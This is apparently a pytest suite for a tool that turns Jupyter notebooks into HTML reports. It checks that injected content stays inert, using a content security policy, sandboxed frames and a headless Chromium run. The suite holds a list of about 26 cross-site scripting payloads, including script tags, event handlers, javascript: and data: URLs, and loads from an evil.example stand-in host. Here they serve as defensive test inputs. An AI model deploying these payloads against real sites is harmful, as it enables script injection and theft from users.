"""HTML reports, read with a real HTML parser and in a real browser: nothing that a cell put out runs in the page."""

import base64
import json
import re
import shutil
import time
from pathlib import Path

import nbformat
import pytest
from bs4 import BeautifulSoup
from nbformat import v4

from helpers.reports import write_html
from helpers.runs import FIELDS

EVALUATION = Path(__file__).resolve().parents[1] / "notebooks" / "evaluate_ticket_model.ipynb"
ATTACKS = [
    "<script>alert('hit')</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert('hit')>",
    "<img src='https://evil.example/pixel.gif'>",
    "<img/src=//evil.example/pixel.gif>",
    "<a href=\"javascript:alert('hit')\">link</a>",
    "<a href='java\tscript:alert(1)'>link</a>",
    "<a href='&#106;avascript&colon;alert(1)'>link</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>link</a>",
    "<a href='da\nta:text/html;base64,PHNjcmlwdD4='>link</a>",
    "<a href='vbscript:msgbox(1)'>link</a>",
    "<svg onload=alert('hit')><script>alert('hit')</script><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<math><mtext><mglyph><style><img src=x onerror=alert('hit')></style></mglyph></mtext></math>",
    "<iframe src='https://evil.example/'></iframe><iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data='https://evil.example/x.swf'></object><embed src='https://evil.example/x'>",
    "<form action='https://evil.example/'><button onclick=alert('hit')>x</button><input onfocus=alert(1)></form>",
    "<div onmouseover=alert('hit') style='background:url(https://evil.example/x)'>x</div>",
    "<body onload=alert('hit')><base href='//evil.example/'><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href='https://evil.example/x.css'><style>@import url(https://evil.example/x.css);</style>",
    "<style><style></style><script>alert('hit')</script></style>",
    "</pre></div></main><script>alert('hit')</script>",
    "<video src='https://evil.example/x' poster='https://evil.example/x'></video>",
    "<details open ontoggle=alert('hit')><summary>x</summary></details>",
    "<!--><script>alert('hit')</script>-->",
    "</title><script>alert('hit')</script>",
    "\"'><script>alert('hit')</script>",
]
PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="


# nbconvert warns of outputs that have nothing left to show.
pytestmark = pytest.mark.filterwarnings("ignore:Your element with mimetype")


def _run(**facts) -> dict:
    return dict.fromkeys(FIELDS) | {"run": "run-1", "state": "completed", "parameters": {}} | facts


def _output(data: dict, **options):
    return v4.new_output("display_data", data, **options)


def _page(tmp_path, cells: list, run: dict | None = None, **metadata) -> BeautifulSoup:
    """The report on a notebook of these cells, parsed."""
    notebook = nbformat.from_dict({"nbformat": 4, "nbformat_minor": 5, "metadata": metadata, "cells": cells})
    write_html(notebook, tmp_path / "nb.html", run or _run())
    return BeautifulSoup((tmp_path / "nb.html").read_text(), "html.parser")


def _assert_harmless(page: BeautifulSoup) -> None:
    """Assert that nothing in the page can run, but its own listener and charts in their frames, or be loaded."""
    policy = page.find("meta", attrs={"http-equiv": "Content-Security-Policy"})["content"]
    nonce = re.search(r"script-src 'nonce-([\w-]+)';", policy).group(1)
    assert policy.startswith("default-src 'none';")
    scripts = page.find_all("script")
    assert len(scripts) == 1
    assert scripts[0].attrs == {"nonce": nonce}
    assert "contentWindow === event.source" in scripts[0].string
    assert page.find_all(["object", "embed", "form", "button", "base", "link", "svg", "math", "video", "input"]) == []
    assert len(page.find_all("meta")) == 3  # charset, viewport and the policy
    for frame in page.find_all("iframe"):
        assert frame["sandbox"] == ["allow-scripts"]
        assert "src" not in frame.attrs
    for tag in page.find_all(True):
        assert not [name for name in tag.attrs if name.startswith("on")], tag
        for name in ("src", "href", "xlink:href", "action", "poster", "data", "background"):
            value = "".join(tag.get(name, "").lower().split())
            safe = {"a": ("#", "http://", "https://", "mailto:"), "img": ("data:image/",)}.get(tag.name, ())
            assert value == "" or value.startswith(safe), tag
        if tag.name != "iframe":
            assert "url(" not in tag.get("style", "")
    for style in page.find_all("style"):
        assert "evil.example" not in style.string
        assert "@import" not in style.string


def _everywhere(attack: str) -> list:
    """Cells with the attack in their prose, code, tags and every kind of output."""
    shouted = f"\x1b[31m{attack}\x1b[0m"
    code = v4.new_code_cell(
        f"# {attack}",
        outputs=[
            _output({"text/html": attack, "text/plain": attack}),
            _output({"text/markdown": f"# {attack}\n\n{attack}\n\n```\n{attack}\n```\n$${attack}$$"}),
            _output({"text/plain": shouted}),
            _output({"text/latex": attack}),
            _output({"text/vnd.mermaid": f"graph TD; {attack}"}),
            _output({"image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg'>{attack}</svg>"}),
            _output({"image/png": f'x" {attack}'}, metadata={"image/png": {"width": f"1 onerror=alert(1) {attack}"}}),
            _output({"image/jpeg": PIXEL}, metadata={"filenames": {"image/jpeg": "https://evil.example/x.jpg"}}),
            _output({"application/vnd.jupyter.widget-view+json": {"model_id": attack}}),
            v4.new_output("stream", name="stdout", text=shouted),
            v4.new_output("stream", name="stderr", text=shouted),
            v4.new_output("error", ename=attack, evalue=attack, traceback=[shouted, attack]),
        ],
    )
    code.metadata.tags = [attack.replace(",", "")]  # a tag with a comma is no valid notebook
    return [
        v4.new_markdown_cell(f"{attack}\n\ntext {attack} text\n\n- {attack}\n\n| a |\n|---|\n| {attack} |"),
        v4.new_raw_cell(attack, metadata={"raw_mimetype": "text/html"}),
        code,
    ]


@pytest.mark.parametrize("attacks", [ATTACKS[first::5] for first in range(5)])
def test_nothing_runs_wherever_it_stands(tmp_path, attacks):
    """An attack in prose, in any kind of output, in printed or raised text, or in the run's facts is text or gone."""
    cells = [cell for attack in attacks for cell in _everywhere(attack)]
    text = "".join(attacks)
    run = _run(run=text, error=text, parameters={"source": text, text: 1}, trial=text, state=text)
    widgets = {"application/vnd.jupyter.widget-state+json": {"state": {"x": text}}}
    _assert_harmless(_page(tmp_path, cells, run, title=text, widgets=widgets))


@pytest.mark.parametrize(
    "link",
    [
        "[link](javascript:alert(1))",
        "![x](https://evil.example/x.png)",
        "![x](javascript:alert(1))",
        "<javascript:alert(1)>",
    ],
)
def test_markdown_links_do_not_run(tmp_path, link):
    """Links and images that markdown writes are held to the same list as those in HTML."""
    _assert_harmless(_page(tmp_path, [v4.new_markdown_cell(link)]))


def test_hostile_numbers_of_cells(tmp_path):
    """A notebook file whose execution counts are texts, as no kernel writes them, does not get them into the page."""
    cell = v4.new_code_cell("1", outputs=[v4.new_output("execute_result", {"text/plain": "1"}, execution_count=1)])
    cell.execution_count = "<script>alert('hit')</script>"
    _assert_harmless(_page(tmp_path, [cell]))


def test_scripts_of_a_cell_are_in_a_sandboxed_frame(tmp_path):
    """JavaScript that a cell puts out runs in a sandboxed frame and only there."""
    evil = "parent.alert('hit');</SCRIPT><script>alert('hit')</script><!--<script>"
    cell = v4.new_code_cell("x", outputs=[_output({"application/javascript": evil, "text/html": "<b>x</b>"})])
    page = _page(tmp_path, [cell])
    _assert_harmless(page)
    (frame,) = page.find_all("iframe")
    inside = BeautifulSoup(frame["srcdoc"], "html.parser")
    # BokehJS and its log level, the cell's script as one, and the one that tells the height.
    assert len(inside.find_all("script")) == 4
    assert "parent.alert('hit')" in inside.find_all("script")[2].string
    assert inside.b.string == "x"


def test_prose_and_tables_are_kept(tmp_path):
    """Headings, links, a pandas table with its cells, images of a cell and coloured text are in the report."""
    import pandas as pd

    table = pd.DataFrame({"MAE & co": [1.5, 2.5], "name": ["<b>", "ü"]}, index=["first", "second"])
    cells = [
        v4.new_markdown_cell(
            "# Title\n\nSome *prose* with [a link](https://example.org/?a=1&b=2).\n\n| a | b |\n|---|---|\n| 1 | 2 |"
        ),
        v4.new_code_cell(
            "table",
            execution_count=7,
            outputs=[
                v4.new_output("execute_result", {"text/html": table._repr_html_()}, execution_count=7),
                _output({"image/png": PIXEL}, metadata={"image/png": {"width": 30, "height": 20}}),
                _output({"image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg'><circle r='1'/></svg>"}),
                _output({"text/html": f"<img src='data:image/png;base64,{PIXEL}' alt='mine'>"}),
                v4.new_output("stream", name="stdout", text="\x1b[31mred\x1b[0m <plain>"),
            ],
        ),
    ]
    page = _page(tmp_path, cells, _run(scheduled_at="2026-01-01T00:00:00+00:00"))
    assert page.h1.get_text().startswith("Title")
    assert page.find("a", string="a link")["href"] == "https://example.org/?a=1&b=2"
    rows = [[cell.get_text() for cell in row(["th", "td"])] for row in page.find("table", class_="dataframe")("tr")]
    assert rows == [["", "MAE & co", "name"], ["first", "1.5", "<b>"], ["second", "2.5", "ü"]]
    assert ["1", "2"] in [[cell.get_text() for cell in row("td")] for row in page("tr")]
    png, svg, mine = page("img")
    assert (png["width"], png["height"], png["src"]) == ("30", "20", f"data:image/png;base64,{PIXEL}")
    assert b"<circle" in base64.b64decode(svg["src"].removeprefix("data:image/svg+xml;base64,"))
    assert (mine["src"], mine["alt"]) == (f"data:image/png;base64,{PIXEL}", "mine")
    assert page.find("span", class_="ansi-red-fg").string == "red"
    assert "<plain>" in page.get_text()
    assert "In [7]:" in page.get_text().replace("\xa0", " ")


def test_an_attached_image_is_kept(tmp_path):
    """An image that was pasted into a markdown cell is in the report."""
    cell = v4.new_markdown_cell("![pasted](attachment:x.png)", attachments={"x.png": {"image/png": PIXEL}})
    (image,) = _page(tmp_path, [cell])("img")
    assert image["src"] == f"data:image/png;base64,{PIXEL}"


def test_the_runs_facts_are_on_top(tmp_path):
    """The first table says which run it was, how it ended and with which parameters, as far as is known."""
    run = _run(state="failed", error="ValueError: no", parameters={"source": "sample", "batch_size": 0})
    table = _page(tmp_path, [v4.new_markdown_cell("| x |\n|---|\n| y |")], run).find("table")
    assert [[cell.get_text() for cell in row(["th", "td"])] for row in table("tr")] == [
        ["run", "run-1"],
        ["state", "failed"],
        ["error", "ValueError: no"],
        ["parameters", "source = 'sample', batch_size = 0"],
    ]


def test_the_notebook_itself_is_not_changed(tmp_path):
    """Making the report leaves the notebook, whose file is written besides, as it is."""
    cell = v4.new_code_cell("x", outputs=[_output({"application/javascript": "1", "text/html": "<style>x</style>"})])
    notebook = v4.new_notebook(cells=[cell], metadata={"widgets": {}})
    before = json.dumps(notebook)
    write_html(notebook, tmp_path / "nb.html", _run())
    assert json.dumps(notebook) == before


def _chart() -> list:
    """The outputs of a cell that shows a Bokeh chart, as `bokeh.io.show` puts them out."""
    from bokeh.embed.notebook import notebook_content
    from bokeh.plotting import figure

    chart = figure(width=300, height=200, title="</script><!-- a title")
    chart.line([1, 2, 3], [3, 1, 2])
    script, div, _ = notebook_content(chart)
    return [_output({"text/html": div}), _output({"application/javascript": script, "text/plain": ""})]


def test_a_chart_is_in_a_frame_with_its_element(tmp_path):
    """A Bokeh chart is one sandboxed frame with BokehJS, the element and the script, and loads nothing."""
    loader = _output({"application/javascript": "load()", "application/vnd.bokehjs_load.v0+json": ""})
    page = _page(tmp_path, [v4.new_code_cell("show(chart)", outputs=[loader, *_chart()])])
    _assert_harmless(page)
    (frame,) = page("iframe")
    inside = BeautifulSoup(frame["srcdoc"], "html.parser")
    assert len(inside.find_all(attrs={"data-root-id": True})) == 1
    assert not [tag for tag in inside.find_all(["script", "link", "img"]) if "src" in tag.attrs or "href" in tag.attrs]
    assert page.find_all(attrs={"data-root-id": True}) == []
    assert "load()" not in frame["srcdoc"]


def test_the_evaluations_report_is_small(tmp_path):
    """The evaluation notebook as it is committed makes a report of at most 2 MB, charts and all, that loads nothing."""
    path = tmp_path / "evaluation.html"
    write_html(nbformat.read(EVALUATION, as_version=4), path, _run())
    assert path.stat().st_size <= 2_000_000
    page = BeautifulSoup(path.read_text(), "html.parser")
    assert len(page("iframe")) == 1
    for name in ("src", "href"):
        for tag in page.find_all(attrs={name: True}):
            assert tag.name == "a" or tag[name].startswith("data:image/")


@pytest.mark.slow
def test_a_report_in_a_browser(tmp_path):
    """In Chromium the chart draws, nothing injected runs, nothing is requested and the console is silent."""
    chromium = shutil.which("chromium")
    if not chromium:
        pytest.skip("chromium is not installed (Debian: apt-get install chromium)")
    from playwright.sync_api import sync_playwright

    # No `javascript:` is clicked on here, and prose is where the browser's parser, unlike the other one, has its say.
    injected = v4.new_code_cell("x", outputs=[_output({"text/html": attack}) for attack in ATTACKS])
    prose = v4.new_markdown_cell("\n\n".join(ATTACKS))
    chart = v4.new_code_cell("show(chart)", outputs=_chart())
    notebook = v4.new_notebook(cells=[prose, injected, chart])
    write_html(notebook, tmp_path / "nb.html", _run(error="\n".join(ATTACKS)))
    said, asked, opened = [], [], []
    with sync_playwright() as playwright:
        arguments = ["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--no-first-run"]
        browser = playwright.chromium.launch(executable_path=chromium, args=arguments)
        page = browser.new_page()
        page.on("console", lambda message: said.append(message.text) if message.type == "error" else None)
        page.on("pageerror", lambda error: said.append(str(error)))
        page.on("request", lambda request: asked.append(request.url))
        page.on("dialog", lambda dialog: (opened.append(dialog.message), dialog.dismiss()))
        page.goto((tmp_path / "nb.html").as_uri())
        canvas = page.frame_locator("iframe").locator("canvas").first
        canvas.wait_for(state="attached", timeout=20_000)
        page.locator("iframe").scroll_into_view_if_needed()  # a browser lays out no frame that is out of sight
        # The frame has told its height of 200 pixels, so both scripts of ours ran; before, it is 480 pixels high.
        limit = time.monotonic() + 20
        while page.locator("iframe").bounding_box()["height"] > 300 and time.monotonic() < limit:
            page.wait_for_timeout(50)
        height = page.locator("iframe").bounding_box()["height"]
        drawn = canvas.bounding_box()
        origin = page.frames[1].evaluate("() => window.origin")
        browser.close()
    assert 200 <= height <= 220
    assert drawn["width"] * drawn["height"] > 0
    assert origin == "null"  # an origin of its own, which reaches neither the page nor cookies
    assert opened == []
    assert said == []
    assert [url for url in asked if not url.startswith(("file:", "data:", "about:"))] == []
